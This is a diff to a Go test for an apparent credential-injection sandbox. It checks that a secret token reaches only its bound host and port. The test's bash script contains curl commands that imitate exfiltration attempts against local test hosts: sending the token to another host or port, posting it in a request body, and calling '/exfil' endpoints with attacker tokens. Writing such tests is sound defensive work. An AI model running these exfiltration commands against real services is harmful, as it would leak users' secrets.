@@ -146,17 +146,17 @@ func TestCredentialStaysOutside(t *testing.T) {
 	t.Parallel()
 	l := newLab(t)
 	canary := "canary-" + hex.EncodeToString([]byte(l.key))
-	s := newService(t, "api.test", "other.test")
+	s, second := newService(t, "api.test", "other.test"), newService(t, "api.test")
 	l.extra = append(l.extra, fmt.Sprintf(`network:
   roots: %[1]s
   hosts: {api.test: ["127.0.0.1"], other.test: ["127.0.0.1"]}
   allow:
-    - {host: api.test, ports: [%[2]s], private: true}
+    - {host: api.test, ports: [%[2]s, %[3]s], private: true}
     - {host: other.test, ports: [%[2]s], private: true, methods: [GET, POST]}
 secrets:
   token: {from: {env: REAL_TOKEN}, host: api.test, port: %[2]s, inject: [{header: X-Token}], placeholder: "tok-{random}", env: TOKEN}
 profiles:
-  tester: {extends: shell, secrets: [token]}`, s.roots, s.port))
+  tester: {extends: shell, secrets: [token]}`, s.roots, s.port, second.port))
 	l.noExec = true
 	l.prepare()
 	script := `set -u
@@ -167,9 +167,10 @@ curl -sS -H "X-Token: $TOKEN" https://other.test:PORT/elsewhere
 curl -sS -o refused.txt -w 'own account: %{http_code}\n' -H "X-Token: attacker-account" https://api.test:PORT/exfil
 curl -sS -o refused2.txt -w 'bearer: %{http_code}\n' -H "Authorization: Bearer attacker" https://api.test:PORT/exfil2
 curl -sS -m 5 -H "X-Token: $TOKEN" http://api.test:PORT/plain
+curl -sS -o /dev/null -w 'other port: %{http_code}\n' -H "X-Token: attacker" https://api.test:OTHER/exfil3
 curl -sS --data "$TOKEN" -H "X-Token: $TOKEN" https://api.test:PORT/body
 `
-	p := l.command("guard", "--config", l.file("sallyport.yaml"), "--profile", "tester", "--workdir", l.workdir(), "--", "bash", "-c", strings.ReplaceAll(script, "PORT", s.port))
+	p := l.command("guard", "--config", l.file("sallyport.yaml"), "--profile", "tester", "--workdir", l.workdir(), "--", "bash", "-c", strings.NewReplacer("PORT", s.port, "OTHER", second.port).Replace(script))
 	p.cmd.Env = append(p.cmd.Env, "REAL_TOKEN="+canary)
 	p.cmd.Stdout, p.cmd.Stderr = p.out, p.err
 	if err := p.cmd.Start(); err != nil {
@@ -180,6 +181,9 @@ curl -sS --data "$TOKEN" -H "X-Token: $TOKEN" https://api.test:PORT/body
 	seen := s.requests()
 	if len(seen) != 3 || seen[0] != "api.test:"+s.port+" /real "+canary || seen[2] != "api.test:"+s.port+" /body "+canary {
 		t.Fatalf("the service saw %q\n%s\n%s", seen, r.out, r.err)
+	}
+	if got := second.requests(); len(got) > 0 {
+		t.Errorf("another port of the bound host was reached: %q", got)
 	}
 	if strings.Contains(seen[1], canary) || !strings.Contains(seen[1], "tok-") {
 		t.Errorf("another host was shown %q", seen[1])
